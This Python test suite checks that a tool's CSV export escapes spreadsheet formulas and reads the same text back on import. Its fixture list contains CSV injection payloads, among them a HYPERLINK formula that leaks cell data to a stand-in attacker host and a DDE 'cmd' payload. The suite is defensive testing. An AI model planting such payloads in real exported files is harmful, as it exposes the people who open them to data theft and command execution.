"""CSV that recrawl writes: nothing in it runs in a spreadsheet, and recrawl reads the same text back."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow as pa
from hypothesis import given
from hypothesis import strategies as st

from commands import output
from recrawl.core.csv_text import FORMULA, protected, unprotected, write_tables
from recrawl.sources.labels import read_labels

TITLES = [
    '=HYPERLINK("https://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "＝1+1", "'=1", "''-x",
    "'quoted'", "-", "plain", 'with "quotes", commas\nand lines', "'", "1-2",
]  # fmt: skip


def visits(folder: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in output("export", "visits", "--history", str(folder)).splitlines()]


def test_exported_titles_run_in_no_spreadsheet_and_are_the_same_after_an_import(tmp_path: Path) -> None:
    records = [
        {"url": f"https://e.org/{i}", "at": "2026-01-02T03:04:05Z", "title": text, "note": text, "links": []}
        for i, text in enumerate(TITLES)
    ]
    (tmp_path / "in.jsonl").write_text("\n".join(map(json.dumps, records)))
    output("import", str(tmp_path / "in.jsonl"), "--history", str(tmp_path / "a"))
    output("export", "visits", "--history", str(tmp_path / "a"), "--out", str(tmp_path / "v.csv"))
    with (tmp_path / "v.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA)] == []
    output("import", str(tmp_path / "v.csv"), "--history", str(tmp_path / "b"))
    kept, again = visits(tmp_path / "a"), visits(tmp_path / "b")
    for name in ("url", "title", "note"):
        assert [row[name] for row in again] == [row[name] for row in kept], name
    assert {row["note"] for row in kept} == set(TITLES)


def test_numbers_stay_numbers_and_column_names_are_text(tmp_path: Path) -> None:
    table = pa.table({"=name": pa.array(["-1", None]).dictionary_encode(), "x": [-1.5, 2.0], "n": [-3, None]})
    with (tmp_path / "t.csv").open("wb") as stream:
        write_tables([table, table], stream)
    row = '"\'-1",-1.5,-3\n,2,\n'
    assert (tmp_path / "t.csv").read_text() == '"\'=name","x","n"\n' + row + row


def test_labels_are_read_as_they_were_before_they_were_protected(tmp_path: Path) -> None:
    (tmp_path / "labels.csv").write_text("text,label\n'=apples,yes\n'quoted',no\n")
    assert list(read_labels(str(tmp_path / "labels.csv"))) == [("=apples", True), ("'quoted'", False)]


@given(st.text(alphabet=st.sampled_from("'=-@\t\r\na ＋"), max_size=6))
def test_every_text_comes_back(text: str) -> None:
    assert unprotected(protected(text)) == text
    assert not protected(text).startswith(FORMULA)
